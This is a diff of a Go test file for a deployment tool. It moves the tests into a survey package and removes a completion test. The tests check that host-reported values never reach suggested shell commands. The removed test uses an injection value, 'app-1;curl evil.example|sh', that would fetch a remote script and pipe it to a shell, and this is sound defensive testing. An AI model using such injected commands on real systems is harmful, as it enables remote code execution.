@@ -1,18 +1,15 @@
-package main
+package survey
 
 import (
 	"encoding/json"
 	"fmt"
 	"hash/crc32"
-	"os"
-	"path/filepath"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"github.com/keep-it-simple/kis/internal/event"
-	"github.com/keep-it-simple/kis/internal/survey"
 	"github.com/keep-it-simple/kis/inventory"
 	"github.com/keep-it-simple/kis/remote"
 )
@@ -26,31 +23,19 @@ func TestWhatIsToBePastedNamesNothingThatAHostHasMadeUp(t *testing.T) {
 			{Host: "web1", Known: true, Was: "app-1", Back: "app-1", Linked: "app-1", Degraded: true},
 			{Host: "web2", Known: true, Was: evil, Back: evil, Linked: evil, Degraded: true},
 		}}
-		next := fmt.Sprint(survey.AfterRun(r))
+		next := fmt.Sprint(AfterRun(r))
 		assert.Contains(t, next, "app-1 --hosts web1", "what is a package is named")
 		assert.NotContains(t, next, "evil")
 	}
-	degraded := func(linked string) survey.Stage {
+	degraded := func(linked string) Stage {
 		text, err := json.Marshal(map[string]any{"run": "0a1b2c3d4e5f", "ev": "reverted", "from": linked, "to": "app-2", "after": true})
 		require.NoError(t, err)
 		line := fmt.Sprintf(`%s,"crc":"%08x"}`, text[:len(text)-1], crc32.ChecksumIEEE(text))
 		state := remote.RepositoryState{Stages: []remote.StageState{{Stage: "live", Linked: linked, Sealed: true, Lines: []string{line}}}}
-		return survey.Judge("live", []inventory.Host{{Name: "web1"}}, map[string]survey.Repository{"web1": {State: state}})
+		return Judge("live", []inventory.Host{{Name: "web1"}}, map[string]Repository{"web1": {State: state}})
 	}
 	good, bad := degraded("app-1"), degraded(evil)
-	require.Equal(t, []survey.Verdict{survey.Degraded, survey.Degraded}, []survey.Verdict{good.Verdict, bad.Verdict})
+	require.Equal(t, []Verdict{Degraded, Degraded}, []Verdict{good.Verdict, bad.Verdict})
 	assert.Contains(t, fmt.Sprint(good.Next), "kis link live app-1")
 	assert.NotContains(t, fmt.Sprint(bad.Next), "evil")
-}
-
-// TestCompletionOffersPackagesOnly: shells paste what it offers, and the log of a run has what hosts have said.
-func TestCompletionOffersPackagesOnly(t *testing.T) {
-	t.Parallel()
-	path := filepath.Join(t.TempDir(), "run.jsonl")
-	line, err := jsonLine(event.Event{Type: event.TypeReport, Report: &event.Report{Stage: "live", Package: "app-2", Hosts: []event.HostReport{
-		{Was: "app-1"}, {Was: "app-1;curl evil.example|sh"}, {Was: "x\napp-3"}, {},
-	}}})
-	require.NoError(t, err)
-	require.NoError(t, os.WriteFile(path, line, 0o600))
-	assert.Equal(t, []string{"app-2", "app-1"}, packagesOf(path, "live"))
 }
